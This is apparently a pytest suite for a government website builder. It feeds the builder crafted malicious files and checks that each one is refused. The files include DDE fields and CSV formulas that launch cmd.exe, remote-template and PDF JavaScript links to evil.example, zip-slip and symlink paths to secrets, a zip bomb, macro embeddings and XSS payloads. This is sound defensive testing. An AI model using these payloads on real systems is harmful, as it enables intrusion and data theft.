"""The attack corpus: every file in tests/serangan/ is what a phished OPD account or a
careless paste could commit. Each must be refused, with a message that names the file,
the key and what is wrong; the few that are allowed are checked for being harmless
(tests/browser/test_serangan_browser.py and the build tests below)."""

from __future__ import annotations

import functools
import io
import os
import subprocess
import sys
import time
import tomllib
import binascii
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from conftest import CONF, ROOT, Site, ole_file, pdf_with_text, runtime_only

CORPUS = Path(__file__).parent / "serangan"
EXPECTED = tomllib.loads((CORPUS / "harapan.toml").read_text(encoding="utf-8"))
NIK = "3302114805850003"


def zip_bytes(members: dict) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, data in members.items():
            z.writestr(name, data)
    return buf.getvalue()


APK = zip_bytes({"AndroidManifest.xml": b"\x03\x00\x08\x00", "classes.dex": b"dex\n035\x00", "resources.arsc": b"\x02\x00"})
XLSX_NIK = zip_bytes({
    "[Content_Types].xml": "<Types/>",
    "xl/workbook.xml": "<workbook/>",
    "xl/sharedStrings.xml": f"<sst><si><t>Budi</t></si><si><t>{NIK}</t></si></sst>",
})
XLSM = zip_bytes({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>", "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
MACRO_DOCX = zip_bytes({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>", "word/vbaProject.bin": b"\xd0\xcf\x11\xe0"})
REMOTE_TEMPLATE = zip_bytes({
    "[Content_Types].xml": "<Types/>", "word/document.xml": "<w/>",
    "word/_rels/settings.xml.rels": '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
    'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
    "</Relationships>",
})
PDF_PLAIN = pdf_with_text([["Rencana umum pengadaan 2026"]])


def pdf_with_object_stream(action: bytes, hexed=True) -> bytes:
    """A PDF 1.5 whose /OpenAction is object 4, kept inside an object stream (5), found
    through a cross-reference stream (6), as current PDF writers save them."""
    inner_head = b"4 0 "
    body = inner_head + action
    data = binascii.hexlify(body) + b">" if hexed else zlib.compress(body)
    filt = b"/ASCIIHexDecode" if hexed else b"/FlateDecode"
    out = bytearray(b"%PDF-1.5\n")
    offsets = {}
    def obj(n, content):
        offsets[n] = len(out)
        out.extend(b"%d 0 obj\n" % n + content + b"\nendobj\n")
    obj(1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>")
    obj(2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    obj(3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>")
    obj(5, b"<< /Type /ObjStm /N 1 /First %d /Filter %s /Length %d >>\nstream\n" % (len(inner_head), filt, len(data)) + data + b"\nendstream")
    offsets[6] = len(out)
    rows = [(0, 0, 65535)] + [(1, offsets[n], 0) for n in (1, 2, 3)] + [(2, 5, 0), (1, offsets[5], 0), (1, offsets[6], 0)]
    xref = b"".join(struct.pack(">BIH", *r) for r in rows)
    out.extend(b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(xref) + xref + b"\nendstream\nendobj\n")
    out.extend(b"startxref\n%d\n%%%%EOF\n" % offsets[6])
    return bytes(out)


def zip_bomb() -> bytes:
    """A 300 KB Word file that unpacks to 310 MB (its text was read whole by the NIK check)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("word/document.xml", "<w/>")
        for i in range(7):
            z.writestr(f"word/media/p{i}.xml", b"A" * 45_000_000)
    return buf.getvalue()


def zip_with_symlink() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        link = zipfile.ZipInfo("tautan.txt")
        link.external_attr = (0o120777 << 16)
        z.writestr(link, "../../../../home/pengguna/.bashrc")
    return buf.getvalue()


WORD = {"[Content_Types].xml": "<Types/>"}
DOCUMENTS = {
    "dokumen/undangan-2.docx": zip_bytes({**WORD, "word/document.xml": "<w/>", "word/_rels/settings.xml.rels":
        "<Relationships><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
        "attachedTemplate' Target='https://evil.example/t.dotm' TargetMode = 'External'/></Relationships>"}),
    "dokumen/nota-dinas.docx": zip_bytes({**WORD, "word/document.xml":
        '<w:document><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:document>'}),
    "dokumen/formulir-2.odt": zip_bytes({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml":
        '<office:document-content><office:event-listeners><script:event-listener script:event-name="dom:load" '
        'xlink:href="vnd.sun.star.script:x.py$main?language=Python&amp;location=share"/></office:event-listeners>'
        "</office:document-content>"}),
    "dokumen/arsip-2.zip": zip_with_symlink(),
    "dokumen/lampiran-paket.docx": zip_bytes({**WORD, "word/document.xml": "<w/>", "word/embeddings/oleObject1.bin":
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 60 + "\x01Ole10Native".encode("utf-16-le") + b"MZ\x90\x00"}),
    "dokumen/formulir.odt": zip_bytes({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office/>",
                                       "Basic/Standard/Module1.xml": 'Sub Main\nShell("cmd /c calc")\nEnd Sub'}),
    "dokumen/lampiran.zip": zip_bytes({"laporan.docx": MACRO_DOCX, "petunjuk.txt": "Baca laporan."}),
    "dokumen/arsip-faktur.zip": zip_bytes({"../../../Startup/invoice.pdf": b"MZ\x90\x00"}),
    "dokumen/undangan.docx": REMOTE_TEMPLATE,
    "dokumen/rup-2026.pdf": PDF_PLAIN.replace(b"/Type /Catalog", b"/Type /Catalog /OpenAction << /S /J#61vaScript /JS (app.launchURL('https://evil.example')) >>"),
    "dokumen/sk-kadis.pdf": pdf_with_object_stream(b"<< /S /Launch /F (cmd.exe) >>", hexed=True),
    "dokumen/peta.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "dokumen/formulir.html": b"<!doctype html><script>alert(1)</script>",
    "dokumen/laporan-palsu.pdf": b"<html><script>location='https://evil.example'</script></html>",
    "dokumen/sukamaju-mobile.apk": APK,
    "dokumen/aplikasi.zip": APK,
    "dokumen/surat.docx": b"MZ\x90\x00\x03" + b"\x00" * 200,
    "dokumen/penerima.csv": f"nama,nik\nBudi,{NIK}\n".encode(),
    "dokumen/daftar.txt": b"Daftar penerima\nBudi 330211-480585-0003\n",
    "dokumen/rekap.xlsx": XLSX_NIK,
    "dokumen/app.js": b"alert(1)",
    "dokumen/makro.xlsx": XLSM,
    f"dokumen/ktp-{NIK}.pdf": b"%PDF-1.4\n%%EOF\n",
    "dokumen/penerima-bansos.pdf": pdf_with_text([["Daftar penerima bantuan pangan tahap 1"],
                                                  ["1. Budi Santoso  330211 480585 0003  Desa Karangsari"]]),
    "dokumen/maklumat.mp3": b"<!doctype html><script>alert(1)</script>",
}


# Office 97-2003 files and what an Office 2007+ file embeds (tests/conftest.py: ole_file).
WORD_97 = {"WordDocument": b"\xec\xa5" + b"\0" * 100, "1Table": b"\0" * 64}


def biff_workbook(*sheets: tuple[str, int], links: tuple = ()) -> bytes:
    """An Excel 97-2003 Workbook stream's globals: BOF, a BOUNDSHEET per (name, type), a
    SUPBOOK per link (its number of sheets and its path, None for the workbook itself), EOF."""
    records = struct.pack("<HH", 0x0809, 16) + b"\0" * 16
    for name, kind in sheets:
        data = b"\0\0\0\0" + bytes([0, kind]) + bytes([len(name), 0]) + name.encode("latin-1")
        records += struct.pack("<HH", 0x0085, len(data)) + data
    for sheet_count, path in links:
        data = (struct.pack("<HH", sheet_count, 0x0401) if path is None
                else struct.pack("<HHB", sheet_count, len(path), 1) + path.encode("utf-16-le"))
        records += struct.pack("<HH", 0x01AE, len(data)) + data
    return records + struct.pack("<HH", 0x000A, 0)


def ppt_stream(*objects: bytes) -> bytes:
    """A PowerPoint 97-2003 "PowerPoint Document" stream: a Document container holding
    each object as a compressed ExOleObjStg record (its size, then zlib)."""
    records = b""
    for obj in objects:
        data = len(obj).to_bytes(4, "little") + zlib.compress(obj)
        records += struct.pack("<HHI", 0x0010, 0x1011, len(data)) + data
    return struct.pack("<HHI", 0x000F, 0x03E8, len(records)) + records


def word_stream(text: bytes, flags: int = 0) -> bytes:
    """A WordDocument stream: its FIB's magic and flags, then the text."""
    return b"\xec\xa5" + b"\0" * 8 + flags.to_bytes(2, "little") + b"\0" * 100 + text


def ooxml(parts: dict, types: str = "") -> bytes:
    return zip_bytes({"[Content_Types].xml": f'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{types}</Types>',
                      "word/document.xml": "<w/>", **parts})


XLSM_PACKAGE = zip_bytes({"[Content_Types].xml": '<Types><Override PartName="/xl/workbook.xml" '
                          'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
                          "xl/workbook.xml": "<workbook/>"})
FILEPASS = struct.pack("<HH", 0x002F, 6) + b"\0\0\x01\0\x01\0"

DOCUMENTS.update({
    "dokumen/presentasi-rakor.ppt": ole_file({"PowerPoint Document": ppt_stream(ole_file({"VBA": {"dir": b"\x01"}})),
                                              "Current User": b"\0" * 20}),
    "dokumen/rekap-bansos.xls": ole_file({"Workbook": biff_workbook(("Rekap", 0))[:20] + FILEPASS + biff_workbook(("Rekap", 0))[20:]}),
    "dokumen/undangan-rapat.doc": ole_file({**WORD_97, "WordDocument": word_stream(
        b'Undangan rapat \x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \x14\x15')}),
    "dokumen/soal-seleksi.doc": ole_file({**WORD_97, "ObjectPool": {"_1234": {
        "\x01Ole": b"\x01\x00\x00\x02" + b"\0" * 16, "Equation Native": b"\x1c\x00\x00\x00"}}}),
    "dokumen/laporan-triwulan.doc": ole_file({**WORD_97, "ObjectPool": {"_1234": {
        "\x01Ole": b"\x01\x00\x00\x02\x01\x00\x00\x00" + b"\0" * 12 + "https://evil.example/x.hta".encode("utf-16-le")}}}),
    "dokumen/rekap-penerima.csv": b"nama,nilai\nBudi,=cmd|' /C calc'!A0\n",
    "dokumen/surat-edaran.docx": ooxml({"word/media/image2.bin": ole_file({"\x01Ole10Native": b"MZ\x90\x00"})}),
    "dokumen/nota-dinas-rapat.docx": ooxml({"word/document.xml":
        '<w:document><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>"EAUTO" c:\\windows\\system32\\cmd.exe'
        '</w:instrText></w:r></w:document>'}),
    "dokumen/data-pengadaan.csv": b'ID;P\nC;X1;Y1;EEXEC("calc")\nE\n',
    "dokumen/formulir-aduan.docx": ooxml({"word/media/image1.xml": "<ax/>"},
                                         '<Override PartName="/word/media/image1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>'),
    "dokumen/anggaran-lama.xls": ole_file({"Book": biff_workbook(("Anggaran", 0), ("Auto_Open", 1))}),
    "dokumen/rekap-realisasi.xls": ole_file({"Workbook": biff_workbook(("Rekap", 0), links=((0, "cmd\x03 /C calc"),))}),
    "dokumen/rincian-kegiatan.docx": ooxml({"word/embeddings/oleObject1.bin": ole_file({"Package": XLSM_PACKAGE.ljust(4096, b"\0")})}),
    "dokumen/rekap-terkunci.xlsx": ole_file({"EncryptionInfo": b"\x04\x00\x04\x00", "EncryptedPackage": b"\x10" * 64}),
    "dokumen/surat-undangan-2.docx": ooxml({"word/afchunk.rtf": r"{\rtf1 {\object\objautlink\objupdate}}",
        "word/_rels/document.xml.rels": "<Relationships><Relationship Id='r9' Type='http://schemas.openxmlformats.org/"
        "officeDocument/2006/relationships/aFChunk' Target='afchunk.rtf'/></Relationships>"}),
})
def sst(*strings: str) -> bytes:
    """An Excel 97-2003 shared-string table record (SST), each string stored as UTF-16."""
    data = struct.pack("<II", len(strings), len(strings))
    for text in strings:
        data += struct.pack("<HB", len(text), 1) + text.encode("utf-16-le")
    return struct.pack("<HH", 0x00FC, len(data)) + data


DOCUMENTS.update({
    # The text of an Office 97-2003 file is read for the NIK check like any other document's.
    "dokumen/daftar-penerima.doc": ole_file({**WORD_97, "WordDocument": word_stream(
        f"Daftar penerima bantuan: Budi Santoso, NIK {NIK}, Desa Karangsari".encode("cp1252"))}),
    "dokumen/rekap-penerima-97.xls": ole_file({"Workbook": biff_workbook(("Rekap", 0)) + sst("Budi Santoso", NIK)}),
    "dokumen/paparan-bansos.ppt": ole_file({"PowerPoint Document": struct.pack("<HHI", 0x000F, 0x03E8, 0) + struct.pack(
        "<HHI", 0x0000, 0x0FA0, 2 * len(f"Penerima: {NIK}")) + f"Penerima: {NIK}".encode("utf-16-le"), "Current User": b"\0" * 20}),
})
def deflate_damaged(members: dict) -> bytes:
    """A zip whose first member's deflate data is damaged (two bytes overwritten)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    data = bytearray(buf.getvalue())
    start = 30 + len(next(iter(members)))  # the first local header, then its name
    data[start:start + 2] = b"\xff\xff"
    return bytes(data)


def number_record(value: float) -> bytes:
    return struct.pack("<HHHHHd", 0x0203, 14, 0, 1, 15, value)


W_MAIN = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
OBJECT_INSIDE_ATOM = struct.pack("<HHI", 0x0000, 0x0FA0, 64) + b"\0" * 8 + ppt_stream(ole_file({"VBA": {"dir": b"\x01"}}))[8:] 

DOCUMENTS.update({
    "dokumen/notulen-rusak.docx": deflate_damaged({"[Content_Types].xml": "<Types/>" * 50, "word/document.xml": "<w/>"}),
    "dokumen/rekap-desa.csv": b"desa,nilai\nKarangsari,=1+cmd|' /C calc'!A0\n",
    "dokumen/daftar-bansos.csv": b'desa,formulir\nKarangsari,"=HYPERLINK(""https://bansos-sukamaju.example"",""Isi data"")"\n',
    "dokumen/nota-kegiatan.docx": ooxml({"word/document.xml": f"<w:document {W_MAIN}><w:body><w:p><w:fldSimple "
                                         "w:instr = ' DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot;'/>"
                                         "</w:p></w:body></w:document>"}),
    # An ExOleObjStg record inside another record's body: PowerPoint finds it by its offset.
    "dokumen/paparan-kinerja.ppt": ole_file({"PowerPoint Document": OBJECT_INSIDE_ATOM, "Current User": b"\0" * 20}),
    "dokumen/penerima-blt.xls": ole_file({"Workbook": biff_workbook(("Penerima", 0))[:-4] + number_record(float(NIK))
                                          + struct.pack("<HH", 0x000A, 0)}),
    "dokumen/laporan-terkunci.odt": zip_bytes({"mimetype": "application/vnd.oasis.opendocument.text",
                                               "content.xml": "\x8f\x13" * 40, "META-INF/manifest.xml":
        '<manifest:manifest><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/>'
        "</manifest:file-entry></manifest:manifest>"}),
})
DOCUMENTS.update({
    "dokumen/surat-undangan.doc": ole_file({**WORD_97, "Macros": {"VBA": {"ThisDocument": b"Attribute VB_Name"}}}),
    "dokumen/rekap-anggaran.xls": ole_file({"Workbook": biff_workbook(("Rekap", 0), ("Auto_Open", 1))}),
    "dokumen/rencana-kerja.docx": zip_bytes({**WORD, "word/document.xml": "<w/>", "word/embeddings/oleObject1.bin":
                                             ole_file({"Workbook": biff_workbook(("Sheet1", 0)),
                                                       "_VBA_PROJECT_CUR": {"VBA": {"dir": b"\x01"}}})}),
    "dokumen/daftar-hadir.docx": zip_bytes({
        "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Override PartName="/word/media/image9.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
        "word/document.xml": "<w/>", "word/media/image9.bin": b"\xd0\xcf\x11\xe0"}),
    "dokumen/rincian-belanja.docx": zip_bytes({**WORD, "word/document.xml": "<w/>",
                                               "word/embeddings/Microsoft_Excel_Worksheet.xlsm": zip_bytes({
        "[Content_Types].xml": '<Types><Override PartName="/xl/workbook.xml" '
        'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
        "xl/workbook.xml": "<workbook/>"})}),
})


def place(site: Site, name: str, outside: Path):
    """The vector file and what it needs: documents, and symlinks to a file outside
    content/ standing for the CI job's secrets."""
    spec = EXPECTED[name]
    for rel, data in DOCUMENTS.items():
        site.write(rel, data)
    if name == "jalur-10-berkas-tersembunyi.md":  # a tool's secret saved beside the documents
        site.write("dokumen/.kunci-deploy.txt", "DEPLOY_TOKEN=ghp_rahasia\n")
    if name == "dok-22-docx-bom-zip.md":
        site.write("dokumen/rekap-besar.docx", zip_bomb())
    secret = outside / "rahasia-ci.env"
    secret.write_text("DEPLOY_TOKEN=ghp_rahasia\n")
    links = {
        "jalur-03-symlink-badan.md": ("dokumen/kunci-ci.txt", secret),
        "jalur-05-dokumen-symlink.md": ("dokumen/lra-2025.pdf", secret),
        "jalur-06-foto-symlink.md": ("images/foto-tautan.jpg", secret),
        "jalur-07-static-folder-symlink.md": ("bocor", Path("/")),
    }
    if name in links:
        rel, target = links[name]
        link = site.content / rel
        link.parent.mkdir(parents=True, exist_ok=True)
        link.symlink_to(target)
    return site.write(f"{spec['folder']}/{name}", (CORPUS / name).read_bytes())


def test_corpus_is_large_enough_and_every_file_has_an_expectation():
    files = sorted(p.name for p in CORPUS.glob("*.md"))
    assert len(files) >= 60
    assert files == sorted(EXPECTED)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_each_attack_is_refused_naming_file_key_and_reason(tmp_path, name):
    site = Site(tmp_path / "situs")
    place(site, name, tmp_path)
    spec = EXPECTED[name]
    report = site.check()
    mine = [p for p in report.errors if p.path.endswith(name)]
    assert any(p.key == spec["kunci"] and spec["pesan"] in p.message for p in mine), [str(p) for p in report.errors]


@pytest.mark.parametrize("name", ["html-01-script.md", "kunci-01-save-as.md", "jalur-03-symlink-badan.md", "dok-04-apk.md"])
def test_a_refused_attack_leaves_the_previous_site_and_publishes_nothing(tmp_path, name):
    site = Site(tmp_path / "situs")
    assert site.build() == 0
    before = site.digest()
    place(site, name, tmp_path)
    assert site.build() == 1
    assert site.digest() == before
    assert not any("ghp_rahasia" in p.read_text(errors="replace") for p in site.output.rglob("*") if p.is_file())


def test_symlink_anywhere_under_content_to_outside_is_refused(tmp_path):
    site = Site(tmp_path / "situs")
    (tmp_path / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (site.content / "images").mkdir(exist_ok=True)
    (site.content / "images/kunci.png").symlink_to(tmp_path / "id_rsa")
    errors = [str(p) for p in site.check().errors]
    assert any("images/kunci.png" in e and "symlink" in e and "luar folder content/" in e for e in errors), errors


def test_photo_linked_from_a_body_is_published_as_a_derivative_without_gps(site):
    exif = Image.Exif()
    exif[0x8825] = {1: "S", 2: (7.0, 30.0, 0.0), 3: "E", 4: (109.0, 0.0, 0.0)}  # GPSInfo
    path = site.content / "images/lokasi.jpg"
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", (1200, 800), "olive").save(path, "JPEG", exif=exif)
    with Image.open(path) as im:
        assert im.getexif().get_ifd(0x8825)  # the original carries a position
    site.write("berita/dinkes/foto.md", "Title: Foto Lokasi\nDate: 2026-11-10 09:30\nOPD: dinkes\nAuthor: Humas\nCategory: Berita\n\nLihat [foto ukuran penuh]({static}/images/lokasi.jpg).\n")
    assert site.build() == 0
    assert not (site.output / "images/lokasi.jpg").exists()
    page = site.read("berita/2026/11/foto-lokasi/index.html")
    import lxml.html

    href = next(a.get("href") for a in lxml.html.fromstring(page).iter("a") if "foto ukuran penuh" in (a.text or ""))
    assert "lokasi-1200." in href and href.endswith(".jpg")
    for published in site.output.rglob("*.jpg"):
        with Image.open(published) as im:
            assert not im.getexif().get_ifd(0x8825), published


def test_spreadsheet_cells_never_start_a_formula(site):
    site.write(
        "dip/dinkes/formula.md",
        "Title: =HYPERLINK(\"https://evil.example\",\"Klik\")\nJenis: berkala\nKategori: profil\nOPD: dinkes\n"
        "Penanggung-Jawab: @SUM(1+1)\nWaktu-Pembuatan: 2026\nTempat-Pembuatan: -Sukamaju\nBentuk: softcopy\n"
        "Retensi: +5 tahun\nDate: 2026-09-01 10:00\n\nIsi.\n",
    )
    assert site.build() == 0
    import csv

    rows = list(csv.reader(io.StringIO((site.output / "data/dip.csv").read_text(encoding="utf-8-sig"))))
    cells = [c for row in rows[1:] for c in row]
    assert "'=HYPERLINK(\"https://evil.example\",\"Klik\")" in cells
    assert "'@SUM(1+1)" in cells and "'+5 tahun" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_security_txt_from_settings_and_a_shipped_file_checked(site):
    assert site.build(SITEURL="https://sukamajukab.go.id") == 0
    text = site.read(".well-known/security.txt")
    assert "Contact: mailto:csirt@sukamajukab.go.id" in text
    assert "Preferred-Languages: id, en" in text
    assert "Canonical: https://sukamajukab.go.id/.well-known/security.txt" in text
    assert "Expires: 2027-11-22T05:00:00Z" in text  # a year after the build's today (SOURCE_DATE_EPOCH)
    site.write(".well-known/security.txt", "Contact: mailto:a@b.go.id\nExpires: 2020-01-01T00:00:00Z\n")
    assert site.build() == 1


def test_publish_build_without_a_contact_warns(site, capsys):
    from content import build

    err = io.StringIO()
    assert build.build(CONF, site.output, out=err, **site.settings(SITEURL="https://x.go.id", SECURITY_CONTACT=())) == 0
    assert "SECURITY_CONTACT: belum diisi" in err.getvalue()


def test_every_page_carries_the_csp_of_nginx(site):
    from publish import csp

    assert site.build() == 0
    hosts = ("youtube.com", "www.youtube.com", "youtube-nocookie.com", "www.youtube-nocookie.com")
    meta = csp.meta(hosts).replace("'", "&#39;")
    for page in site.output.rglob("*.html"):
        if page.relative_to(site.output).parts[0] == "admin":
            continue  # the web editor has its own policy ($redaksi_csp, tests/test_editor_nginx.py)
        assert f'<meta http-equiv="Content-Security-Policy" content="{meta}">' in page.read_text(), page
    conf = (ROOT / "deploy/nginx.conf").read_text()
    assert f'add_header Content-Security-Policy "{csp.header(hosts)}" always;' in conf, "run ./run.sh nginx-csp"
    from content.build import load_settings

    editor = csp.editor_header(load_settings(CONF))
    assert f'map $uri $redaksi_csp {{\n    default "{editor}";' in conf, "run ./run.sh nginx-csp"
    assert "connect-src 'self' blob: https://api.github.com;" in editor and "localhost" not in editor
    assert "frame-ancestors" not in csp.meta(hosts) and "frame-ancestors 'self'" in csp.header(hosts)


def test_allowed_embed_and_new_tab_link_are_hardened(site):
    site.write(
        "berita/dinkes/video.md",
        "Title: Video Posyandu\nDate: 2026-11-10 09:30\nOPD: dinkes\nAuthor: Humas\nCategory: Berita\n\n"
        '<iframe src="https://www.youtube-nocookie.com/embed/abc" width="560" height="315" allowfullscreen></iframe>\n\n'
        '<a href="https://kemkes.go.id" target="_blank">Kemenkes</a> '
        '<a href="https://who.int" target="_BLANK">WHO</a>\n',
    )
    assert site.build() == 0
    import lxml.html

    root = lxml.html.fromstring(site.read("berita/2026/11/video-posyandu/index.html"))
    frame = next(root.iter("iframe"))
    assert frame.get("sandbox") and "allow-top-navigation" not in frame.get("sandbox")
    assert frame.get("referrerpolicy") and frame.get("loading") == "lazy" and frame.get("title")
    for href in ("https://kemkes.go.id", "https://who.int"):  # target="_BLANK" opens a new tab too
        link = next(a for a in root.iter("a") if a.get("href") == href)
        assert link.get("rel") == "noopener noreferrer", href


def test_markup_written_as_text_in_a_question_page_stays_text(site):
    """Escaped markup after a question whose paragraph HTML5 and libxml2 close differently
    (``<p><h2>…</h2>&lt;meta …&gt;</p>``): the policy sees text, and the question page,
    which cuts the body at each question, writes it as text again, never as elements."""
    site.write("halaman/tanya.md", (
        "Title: Tanya Formulir\nSlug: tanya-formulir\nTanya-Jawab: ya\n\n## Kapan layanan buka?\n\nSetiap hari kerja.\n\n"
        '<p><h2>Di mana formulirnya?</h2>&lt;meta http-equiv="refresh" content="0;url=https://phish.example/ppid"&gt;'
        '&lt;a href="javascript:alert(1)"&gt;Sesi Anda berakhir&lt;/a&gt;'
        '&lt;form action="https://phish.example/"&gt;&lt;input name=nik&gt;&lt;/form&gt;</p>\n'))
    assert site.build() == 0
    import lxml.html

    page = site.read("tanya-formulir/index.html")
    root = lxml.html.fromstring(page)
    assert root.xpath("//meta[@http-equiv='refresh']") == [] and root.xpath("//form[contains(@action, 'phish')]") == [] and root.xpath("//input[@name='nik']") == []
    assert not [a for a in root.iter("a") if (a.get("href") or "").startswith("javascript:")]
    answer = root.xpath("//section[contains(@class, 'tanya-jawab__butir')]")[1].text_content()
    assert '<meta http-equiv="refresh" content="0;url=https://phish.example/ppid">' in answer


def test_two_builds_at_once_both_succeed_and_equal_a_clean_build(tmp_path):
    site = Site(tmp_path / "situs")
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1795323600", "PYTHONPATH": runtime_only(ROOT / "plugins")}
    code = (
        "import sys; sys.path.insert(0, %r); from content import build; "
        "sys.exit(build.build(%r, %r, PATH=%r, SITE_LOGO=''))" % (str(ROOT / "plugins"), str(CONF), str(site.output), str(site.content))
    )
    procs = [subprocess.Popen([sys.executable, "-c", code], env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True) for _ in range(2)]
    outs = [p.communicate(timeout=600)[0] for p in procs]
    assert [p.returncode for p in procs] == [0, 0], outs
    assert "Traceback" not in "".join(outs)
    assert any("Menunggu build lain" in o for o in outs), outs
    together = site.digest()
    clean = Site(tmp_path / "bersih")
    subprocess.run([sys.executable, "-c", code.replace(str(site.output), str(clean.output)).replace(str(site.content), str(clean.content))], env=env, check=True, capture_output=True)
    assert together == clean.digest()


def test_a_build_that_cannot_get_the_lock_stops_with_a_clear_message(site, monkeypatch):
    import fcntl

    from content import build

    lock = site.output.parent / ".cache" / f"konten-{site.output.name}" / "build.kunci"
    lock.parent.mkdir(parents=True)
    monkeypatch.setenv("BUILD_LOCK_TIMEOUT", "1")
    with open(lock, "a+b") as fh:
        # flock locks are per open file description: a child holds it, as another build would.
        holder = subprocess.Popen([sys.executable, "-c", f"import fcntl,time; f=open({str(lock)!r},'a+b'); fcntl.flock(f, fcntl.LOCK_EX); print('ok', flush=True); time.sleep(30)"], stdout=subprocess.PIPE, text=True)
        try:
            assert holder.stdout.readline().strip() == "ok"
            err = io.StringIO()
            assert build.build(CONF, site.output, out=err, **site.settings()) != 0
            assert "build lain masih berjalan" in err.getvalue()
        finally:
            holder.kill()
    assert not site.output.exists()


def test_bidi_control_in_an_opd_name_is_refused(site):
    site.write("opd.toml", '[dinkes]\nnama = "Dinas Kesehatan \u202egnp.exe"\nsingkatan = "Dinkes"\n[bpbd]\nnama = "BPBD"\nsingkatan = "BPBD"\n')
    errors = [str(p) for p in site.check().errors]
    assert any("opd.toml" in e and "[dinkes] nama" in e and "bidi" in e for e in errors), errors


@pytest.mark.parametrize("line, fragment", [
    ('ppid = "Sekretaris <script>alert(1)</script>"', "[dinkes] ppid: elemen <script> tidak diizinkan"),
    ('ppid_telepon = "0812 \u202e0001"', "[dinkes] ppid_telepon: berisi karakter pengatur arah teks"),
    ('ppid_email = "ppid@dinkes"', "[dinkes] ppid_email: \"ppid@dinkes\" bukan alamat surel lengkap"),
    ('ppid_email = "<img src=x onerror=alert(1)>@a.go.id"', "[dinkes] ppid_email: "),
])
def test_the_ppid_pelaksana_s_contacts_pass_the_registry_s_checks(site, line, fragment):
    """What the registry says of an OPD's PPID Pelaksana is shown on ppid/ and the OPD's
    page: the same checks as its name and the office's contacts (no markup, no hidden
    direction marks, a whole e-mail address), and the build stops."""
    site.write("opd.toml", f'[dinkes]\nnama = "Dinas Kesehatan"\nsingkatan = "Dinkes"\n{line}\n'
                           '[bpbd]\nnama = "BPBD"\nsingkatan = "BPBD"\n')
    errors = [str(p) for p in site.check().errors]
    assert any("opd.toml" in e and fragment in e for e in errors), errors
    assert site.build() != 0 and not site.output.exists()


def test_published_sample_site_holds_no_nik_gps_or_formula_cell(tmp_path, monkeypatch):
    """The output as a whole, scanned for what must never be published."""
    from content import berkas, build
    from content.safety import looks_like_nik

    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1795323600")
    out = tmp_path / "output"
    assert build.build(CONF, out, SITEURL="https://sukamajukab.go.id") == 0
    content = (ROOT / "content").resolve()
    for path in out.rglob("*"):
        if path.is_symlink():
            assert path.resolve().is_relative_to(out.resolve()), path
        if not path.is_file():
            continue
        if path.suffix in (".html", ".csv", ".json", ".xml", ".txt", ".ics"):
            assert looks_like_nik(path.read_text(encoding="utf-8", errors="replace")) is None, path
        if path.suffix in (".pdf", ".docx", ".xlsx", ".odt", ".ods"):
            assert looks_like_nik(berkas.text_of(path)) is None, path
        if path.suffix in (".jpg", ".jpeg", ".webp", ".png"):
            with Image.open(path) as im:
                assert not im.getexif().get_ifd(0x8825), path
        if path.suffix == ".csv":
            for line in path.read_text(encoding="utf-8-sig").splitlines():
                assert not any(cell[:1] in "=+-@\t\r" and cell for cell in line.split(",")), (path, line)
    published_docs = {p.relative_to(out).as_posix() for p in out.rglob("*") if p.suffix.lower() in (".pdf", ".docx", ".xlsx", ".csv") and not p.relative_to(out).as_posix().startswith("data/")}
    assert all((content / rel).is_file() for rel in published_docs), published_docs


def test_symlink_in_the_theme_leaving_it_stops_the_build(tmp_path):
    import shutil

    theme = tmp_path / "tema"
    shutil.copytree(ROOT / "theme", theme)
    (theme / "static/bocor.txt").symlink_to("/etc/hostname")
    site = Site(tmp_path / "situs")
    err = io.StringIO()
    from content import build

    assert build.build(CONF, site.output, out=err, **site.settings(THEME=str(theme))) == 1
